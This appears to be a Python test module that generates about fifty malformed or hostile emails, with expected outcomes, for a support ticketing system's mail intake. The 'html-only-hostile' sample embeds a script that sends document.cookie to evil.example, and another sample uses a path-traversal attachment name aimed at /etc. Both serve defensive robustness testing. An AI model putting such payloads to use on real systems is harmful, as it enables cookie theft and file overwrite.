"""A corpus of hostile and odd mails, made on the fly (no fixture files), with expected outcomes."""
# ruff: noqa: E501  (mail samples are long literal lines on purpose)

from __future__ import annotations

import base64
import os
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path

KEY_USER = "lider@cliente.com.pa"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ANY_TICKET = frozenset({"new", "threaded"})


@dataclass(frozen=True)
class Sample:
    name: str
    raw: bytes
    expect: frozenset[str]  # acceptable outcomes


def _hdr(
    subject: str = "Falla en el sistema",
    sender: str = f"Líder <{KEY_USER}>",
    msgid: str | None = "auto",
    extra: str = "",
) -> str:
    lines = []
    if sender:
        lines.append(f"From: {sender}")
    lines.append("To: soporte@imr.com.pa")
    if subject is not None:
        lines.append(f"Subject: {subject}")
    lines.append("Date: Mon, 07 Dec 2026 10:30:00 -0500")
    if msgid == "auto":
        msgid = make_msgid(domain="cliente.com.pa")
    if msgid:
        lines.append(f"Message-ID: {msgid}")
    lines.append(
        "Received: from mx.cliente.com.pa by mx.imr.com.pa; Mon, 07 Dec 2026 10:31:00 -0500"
    )
    if extra:
        lines.append(extra.rstrip("\r\n"))
    return "\r\n".join(lines) + "\r\n"


def _s(name: str, text: str | bytes, expect: frozenset[str] = ANY_TICKET) -> Sample:
    raw = text if isinstance(text, bytes) else text.encode("utf-8", "surrogateescape")
    return Sample(name, raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), expect)


def _em(**kw: object) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = f"Líder <{KEY_USER}>"
    msg["To"] = "soporte@imr.com.pa"
    msg["Subject"] = str(kw.get("subject", "Caso con adjuntos"))
    msg["Message-ID"] = make_msgid(domain="cliente.com.pa")
    msg["Date"] = format_datetime(datetime(2026, 12, 7, 15, 0, tzinfo=UTC))
    return msg


def build_corpus(*, seed: int = 7, huge: bool = False) -> list[Sample]:
    """At least 50 samples. ``huge`` adds the 30 MB attachment (use it once per run)."""
    rnd = random.Random(seed)
    out: list[Sample] = []
    ct = "MIME-Version: 1.0\r\n"
    # 1-6 charsets: wrong, missing, unknown, latin-1 bytes declared utf-8
    out.append(
        _s(
            "plain-utf8",
            _hdr()
            + ct
            + "Content-Type: text/plain; charset=utf-8\r\n\r\nEl sistema no arranca. Año ñ\r\n",
        )
    )
    out.append(
        _s(
            "missing-charset",
            (_hdr() + ct + "Content-Type: text/plain\r\n\r\n").encode()
            + "Café roto".encode("latin-1"),
        )
    )
    out.append(
        _s(
            "wrong-charset",
            (_hdr() + ct + "Content-Type: text/plain; charset=utf-8\r\n\r\n").encode()
            + "Facturación caída".encode("cp1252"),
        )
    )
    out.append(
        _s(
            "unknown-charset",
            _hdr() + ct + "Content-Type: text/plain; charset=x-klingon-9\r\n\r\nqapla\r\n",
        )
    )
    out.append(
        _s(
            "charset-quoted-garbage",
            _hdr() + ct + 'Content-Type: text/plain; charset="utf-8\\"\r\n\r\nhola\r\n',
        )
    )
    out.append(
        _s(
            "qp-bad",
            _hdr()
            + ct
            + "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nF=E1lla =ZZ =\r\nfin\r\n",
        )
    )
    # 7-12 headers: 8-bit, encoded words, broken encoded words, huge
    out.append(
        _s(
            "8bit-subject",
            (_hdr(subject="").replace("Subject: \r\n", "") + "Subject: ").encode()
            + "Facturación caída ñ".encode("latin-1")
            + b"\r\n\r\nbody\r\n",
        )
    )
    out.append(_s("8bit-from-utf8", _hdr(sender=f"José Pérez <{KEY_USER}>") + "\r\nhola\r\n"))
    out.append(
        _s(
            "encoded-word-subject",
            _hdr(
                subject="=?utf-8?B?"
                + base64.b64encode("Sistema caído — urgente".encode()).decode()
                + "?="
            )
            + "\r\nx\r\n",
        )
    )
    out.append(
        _s(
            "encoded-word-broken",
            _hdr(subject="=?utf-8?Q?roto=ZZ?= =?nada?X?abc?= =?iso-8859-1?q?ca=EDdo?=")
            + "\r\nx\r\n",
        )
    )
    out.append(
        _s("encoded-word-from", _hdr(sender=f"=?iso-8859-1?q?Mar=EDa?= <{KEY_USER}>") + "\r\nx\r\n")
    )
    out.append(_s("very-long-subject", _hdr(subject="A" * 5000) + "\r\nx\r\n"))
    # 13-16 missing pieces
    out.append(_s("no-from", _hdr(sender="") + "\r\nSin remitente\r\n"))
    out.append(_s("no-message-id", _hdr(msgid=None) + "\r\nSin identificador\r\n"))
    out.append(_s("no-subject", _hdr(subject=None) + "\r\nSin asunto\r\n"))
    out.append(_s("empty-body", _hdr() + "\r\n"))
    out.append(_s("from-garbage", _hdr(sender='<<<@@@>>> ;;; "') + "\r\nx\r\n"))
    out.append(_s("from-group-syntax", _hdr(sender="undisclosed-recipients:;") + "\r\nx\r\n"))
    # 19-26 MIME structure
    nested = (
        _hdr() + ct + 'Content-Type: multipart/mixed; boundary="A"\r\n\r\n--A\r\n'
        'Content-Type: multipart/related; boundary="B"\r\n\r\n--B\r\n'
        'Content-Type: multipart/alternative; boundary="C"\r\n\r\n--C\r\n'
        "Content-Type: text/plain; charset=utf-8\r\n\r\nTexto plano\r\n--C\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Texto <b>HTML</b></p>\r\n--C--\r\n--B\r\n"
        "Content-Type: image/png\r\nContent-ID: <img1@x>\r\nContent-Disposition: inline\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(PNG).decode()
        + "\r\n--B--\r\n"
        "--A\r\nContent-Type: application/pdf; name=informe.pdf\r\nContent-Disposition: attachment; filename=informe.pdf\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(b"%PDF-1.4 fake").decode()
        + "\r\n--A--\r\n"
    )
    out.append(_s("nested-multipart", nested))
    deep = _hdr() + ct
    for depth in range(60):
        deep += f'Content-Type: multipart/mixed; boundary="d{depth}"\r\n\r\n--d{depth}\r\n'
    deep += "Content-Type: text/plain\r\n\r\nfondo\r\n"
    out.append(_s("deeply-nested", deep))
    out.append(
        _s(
            "missing-boundary",
            _hdr()
            + ct
            + "Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nhola\r\n--x--\r\n",
        )
    )
    out.append(
        _s(
            "unterminated-multipart",
            _hdr()
            + ct
            + 'Content-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\nContent-Type: text/plain\r\n\r\nsin fin\r\n',
        )
    )
    out.append(
        _s(
            "bad-base64",
            _hdr()
            + ct
            + 'Content-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\nContent-Type: text/plain\r\n\r\nver adjunto\r\n--Z\r\nContent-Type: image/jpeg; name=a.jpg\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64@@@\r\n--Z--\r\n',
        )
    )
    tnef = _em(subject="Outlook con winmail.dat")
    tnef.set_content("Adjunto desde Outlook")
    tnef.add_attachment(
        b"\x78\x9f\x3e\x22" + os.urandom(200),
        maintype="application",
        subtype="ms-tnef",
        filename="winmail.dat",
    )
    out.append(_s("tnef-winmail", tnef.as_bytes()))
    html = (
        _hdr()
        + ct
        + (
            "Content-Type: text/html; charset=utf-8\r\n\r\n<html><head><style>body{color:red}</style>"
            "<script>document.location='http://evil.example/steal?'+document.cookie</script></head>"
            "<body><h1>Error</h1><p>La pantalla muestra &quot;Código 500&quot;</p>"
            '<img src="http://tracker.example/pixel.gif" alt="logo"><iframe src="http://evil"></iframe></body></html>\r\n'
        )
    )
    out.append(_s("html-only-hostile", html))
    out.append(
        _s(
            "html-malformed",
            _hdr()
            + ct
            + "Content-Type: text/html\r\n\r\n<div><p>abierto <b>sin <i>cerrar <script>x=1\r\n",
        )
    )
    # 27-31 attachments: inline images, zero-byte, odd names, forwarded messages
    inline = _em(subject="Captura de pantalla")
    inline.set_content("Ver imagen")
    inline.add_alternative('<p>Ver <img src="cid:captura@x"></p>', subtype="html")
    inline.get_payload()[1].add_related(
        PNG, "image", "png", cid="<captura@x>", filename="captura.png"
    )
    out.append(_s("inline-image", inline.as_bytes()))
    zero = _em(subject="Adjunto vacío")
    zero.set_content("")
    zero.add_attachment(b"", maintype="application", subtype="octet-stream", filename="vacio.bin")
    zero.add_attachment(b"", maintype="text", subtype="plain", filename="vacio.txt")
    out.append(_s("zero-byte-parts", zero.as_bytes()))
    odd = _em(subject="Nombre raro")
    odd.set_content("adjunto")
    odd.add_attachment(PNG, maintype="image", subtype="png", filename="../../etc/pässwd.png")
    out.append(_s("odd-filename", odd.as_bytes()))
    inner = _em(subject="Mensaje original del usuario")
    inner.set_content("Texto del mensaje reenviado")
    fwd = _em(subject="RV: Mensaje original del usuario")
    fwd.set_content("Les reenvío el caso")
    fwd.add_attachment(inner)
    out.append(_s("forwarded-rfc822", fwd.as_bytes()))
    out.append(
        _s(
            "rfc822-empty",
            _hdr()
            + ct
            + 'Content-Type: multipart/mixed; boundary="Z"\r\n\r\n--Z\r\nContent-Type: message/rfc822\r\n\r\n\r\n--Z--\r\n',
        )
    )
    many = _em(subject="Muchos adjuntos")
    many.set_content("varios")
    for i in range(30):
        many.add_attachment(
            os.urandom(rnd.randint(10, 2000)),
            maintype="application",
            subtype="octet-stream",
            filename=f"log-{i}.bin",
        )
    out.append(_s("many-attachments", many.as_bytes()))
    # 33-38 automated mail: bounces, auto-replies, lists (tickets, but never acknowledged)
    out.append(
        _s(
            "bounce",
            _hdr(
                sender="MAILER-DAEMON@mx.cliente.com.pa",
                subject="Undelivered Mail Returned to Sender",
            )
            + ct
            + 'Content-Type: multipart/report; report-type=delivery-status; boundary="R"\r\n\r\n--R\r\nContent-Type: text/plain\r\n\r\nNo se pudo entregar\r\n--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\nFinal-Recipient: rfc822; x@y\r\nAction: failed\r\n--R--\r\n',
        )
    )
    out.append(
        _s(
            "auto-reply",
            _hdr(subject="Fuera de la oficina", extra="Auto-Submitted: auto-replied")
            + "\r\nEstoy de vacaciones\r\n",
        )
    )
    out.append(
        _s(
            "precedence-bulk",
            _hdr(subject="Boletín", extra="Precedence: bulk") + "\r\nnovedades\r\n",
        )
    )
    out.append(
        _s(
            "list-id",
            _hdr(subject="[lista] tema", extra="List-Id: <lista.cliente.com.pa>")
            + "\r\nmensaje de lista\r\n",
        )
    )
    out.append(_s("postmaster", _hdr(sender="postmaster@cliente.com.pa") + "\r\naviso\r\n"))
    out.append(
        _s(
            "own-address",
            _hdr(sender="soporte@imr.com.pa", subject="Copia propia") + "\r\nbucle\r\n",
        )
    )
    # 39-44 binary oddities
    out.append(_s("nul-bytes-body", (_hdr() + "\r\n").encode() + b"hola\x00\x00mundo\xff\xfe"))
    out.append(_s("lf-only", (_hdr() + "\r\nsolo LF\r\n").replace("\r\n", "\n").encode()))
    out.append(_s("header-no-colon-line", _hdr() + "esta linea no es encabezado\r\n\r\ncuerpo\r\n"))
    out.append(
        _s(
            "unknown-cte",
            _hdr()
            + ct
            + "Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode-weird\r\n\r\nbegin 644\r\n",
        )
    )
    out.append(_s("control-chars-subject", _hdr(subject="a\x01b\x07c\x1bd") + "\r\nx\r\n"))
    out.append(_s("bidi-subject", _hdr(subject="fac\u202etura\u200b") + "\r\nx\r\n"))
    # 45-48 garbage: quarantine
    quarantine = frozenset({"quarantined"})
    out.append(Sample("garbage-random", bytes(rnd.randrange(256) for _ in range(4000)), quarantine))
    out.append(
        Sample("garbage-text", b"esto no es un correo\r\nni tiene encabezados\r\n", quarantine)
    )
    out.append(Sample("garbage-binary-png", PNG * 50, quarantine))
    out.append(Sample("only-whitespace", b"\r\n\r\n   \r\n", quarantine))
    # 49-52 threading: subject tag of an unknown ticket, references to unknown ids
    out.append(_s("tag-unknown-ticket", _hdr(subject="Re: [IMR-999999] caso viejo") + "\r\nx\r\n"))
    out.append(
        _s(
            "references-unknown",
            _hdr(extra="In-Reply-To: <nadie@x>\r\nReferences: <a@x> <b@x>") + "\r\nx\r\n",
        )
    )
    out.append(
        _s("references-garbage", _hdr(extra="References: <<<>>> no-brackets <") + "\r\nx\r\n")
    )
    out.append(_s("date-garbage", _hdr(extra="Date: ayer por la tarde") + "\r\nx\r\n"))
    # 53-56 duplicates: same bytes twice, same Message-ID twice
    dup = _s("dup-bytes", _hdr(msgid=None, subject="Entregado dos veces") + "\r\nrepetido\r\n")
    out.append(dup)
    out.append(Sample("dup-bytes-again", dup.raw, frozenset({"duplicate"})))
    mid = make_msgid(domain="cliente.com.pa")
    out.append(_s("dup-msgid", _hdr(msgid=mid, subject="Mismo id") + "\r\nprimera copia\r\n"))
    out.append(
        _s(
            "dup-msgid-again",
            _hdr(msgid=mid, subject="Mismo id") + "X-Copy: 2\r\n\r\nsegunda copia\r\n",
            frozenset({"duplicate"}),
        )
    )
    big = _em(subject="Adjunto de 5 MB")
    big.set_content("ver registro")
    big.add_attachment(
        os.urandom(5 * 1024 * 1024), maintype="application", subtype="zip", filename="registro.zip"
    )
    out.append(_s("attachment-5mb", big.as_bytes()))
    if huge:
        h = _em(subject="Adjunto de 30 MB")
        h.set_content("respaldo completo")
        h.add_attachment(
            os.urandom(30 * 1024 * 1024),
            maintype="application",
            subtype="octet-stream",
            filename="respaldo.bak",
        )
        out.append(_s("attachment-30mb", h.as_bytes()))
    return out


def ticket_mail(
    subject: str,
    body: str,
    *,
    sender: str = KEY_USER,
    msgid: str | None = None,
    extra: str = "",
    attachment: bytes | None = None,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "soporte@imr.com.pa"
    msg["Subject"] = subject
    msg["Message-ID"] = msgid or make_msgid(domain="cliente.com.pa")
    msg["Date"] = format_datetime(datetime.now(UTC) - timedelta(minutes=5))
    for line in filter(None, extra.split("\n")):
        k, _, v = line.partition(":")
        msg[k.strip()] = v.strip()
    msg.set_content(body)
    if attachment is not None:
        msg.add_attachment(attachment, maintype="image", subtype="png", filename="captura.png")
    return msg.as_bytes()


def write_eml_files(folder: Path, count: int = 12) -> list[str]:
    """The first ``count`` corpus mails as .eml files, the first one named twice (a duplicate)
    and a file of garbage (quarantined): what an operator might hand to ``intake eml``."""
    files = []
    for i, sample in enumerate(build_corpus()[:count]):
        path = folder / f"{i:02d}.eml"
        path.write_bytes(sample.raw)
        files.append(str(path))
    files.append(files[0])  # the same file twice: a duplicate
    junk = folder / "junk.eml"
    junk.write_bytes(b"garbage")
    files.append(str(junk))
    return files
